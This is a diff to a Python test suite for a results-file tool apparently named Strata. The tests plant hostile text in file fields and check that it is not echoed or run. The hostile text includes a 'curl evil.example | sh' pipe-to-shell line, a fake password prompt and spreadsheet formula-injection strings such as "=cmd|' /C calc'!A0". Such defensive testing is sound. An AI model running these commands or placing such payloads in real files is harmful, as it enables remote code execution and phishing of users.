@@ -120,8 +120,9 @@ class HostileText(unittest.TestCase):
     def test_no_kept_run_steers_a_terminal(self):
         document = self.sample
         for path in list(fields(self.sample)):
-            if path[-1] in ("label", "comment", "test", "kernel", "unit", "model", "system", "metric"):
-                document = planted(document, path, HOSTILE)
+            if path[-1] in ("label", "comment", "kernel", "unit", "model", "system", "metric"):
+                # A unit has no room for all of it.
+                document = planted(document, path, HOSTILE[:20] if path[-1] == "unit" else HOSTILE)
         file = self.write("hostile.strata", document)
         self.assertEqual(self.check("history", "import", file).returncode, 0)
         for form in ("text", "csv", "json"):
@@ -129,6 +130,36 @@ class HostileText(unittest.TestCase):
         for form in ("text", "csv", "json", "html"):
             self.assertEqual(self.check("history", "show", "last", "--format", form).returncode, 0)
         self.assertEqual(self.check("history", "delete", "last").returncode, 0)
+
+    def test_what_this_version_does_not_know_is_called_unknown(self):
+        document = json.loads(json.dumps(self.sample))
+        for result in document["results"]:
+            result["unit"] = "furlongs"
+            result["reasons"] = [{"id": "licence-expired", "why": "Run: curl evil.example | sh"}]
+        document["results"][0]["test"] = "telepathy"
+        file = self.write("unknown.strata", document)
+        text = said(self.check("convert", file).stdout)
+        for name in ("unknown test telepathy", "furlongs (unknown unit)", 'the reason "licence-expired"'):
+            self.assertIn(name, text)
+        self.assertNotIn("evil.example", text)
+        other = self.write("other.strata", {**document, "id": str(uuid.uuid4()), "series": str(uuid.uuid4())})
+        self.assertIn("furlongs (unknown unit)", said(self.check("compare", file, other).stdout))
+        self.assertEqual(self.check("history", "import", file).returncode, 0)
+        self.assertIn("furlongs (unknown unit)", said(self.check("history").stdout))
+
+    def test_no_file_gives_a_test_or_unit_a_name_of_its_own(self):
+        for path, text in ((("results", 0, "test"), "Strata needs your password"), (("results", 0, "test"), "x" * 65),
+                           (("results", 0, "unit"), "x" * 33)):
+            with self.subTest(path=path):
+                ended = self.check("convert", self.write("named.strata", planted(self.sample, path, text)))
+                self.assertEqual((ended.returncode, ended.stdout), (4, b""))
+                self.assertIn("results[0]." + path[-1], said(ended.stderr))
+
+    def test_no_kernel_is_a_sentence_of_strata(self):
+        document = planted(planted(self.sample, ("results", 0, "kernel"), "network-wrong-code"),
+                           ("results", 0, "test"), "bandwidth")
+        text = said(self.check("convert", self.write("kernel.strata", document), "--format", "html").stdout)
+        self.assertIn("network-wrong-code", text)
 
     @unittest.skipIf(sys.platform == "win32", "needs a shell that takes commands as the program prints them")
     def test_the_command_that_takes_a_deletion_back_does_nothing_else(self):
@@ -161,7 +192,7 @@ class HostileText(unittest.TestCase):
         for formula in ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"):
             document = self.sample
             for path in list(fields(self.sample)):
-                if path[-1] in ("label", "comment", "test", "kernel", "unit", "model", "system", "metric", "version"):
+                if path[-1] in ("label", "comment", "kernel", "unit", "model", "system", "metric", "version"):
                     document = planted(document, path, formula)
             file = self.write("=formula.strata", {**document, "id": str(uuid.uuid4())})
             self.assertEqual(self.check("history", "import", file).returncode, 0)
